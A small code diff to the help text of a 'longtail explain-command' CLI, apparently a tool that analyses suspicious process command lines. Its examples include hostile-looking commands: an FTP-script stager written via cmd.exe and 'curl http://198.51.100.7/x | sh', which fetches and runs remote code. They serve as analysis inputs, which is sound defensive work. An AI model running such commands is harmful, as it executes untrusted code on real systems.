@@ -7,14 +7,15 @@ from typing import Any
 
 import click
 
-EXAMPLES = r"""
+EXAMPLES = (
+    "\b"
+    + r"""
 Examples:
-
-\b
   longtail explain-command '"C:\Windows\system32\cmd.exe" /c echo open 1.2.3.4>So.2'
   longtail explain-command 'svc.exe a.dll,Run' --image 'C:\Temp\svc.exe'
   longtail explain-command "sh -c 'curl http://198.51.100.7/x | sh'" --posix -f json
 """
+)
 
 
 @click.command(name="explain-command", epilog=EXAMPLES)
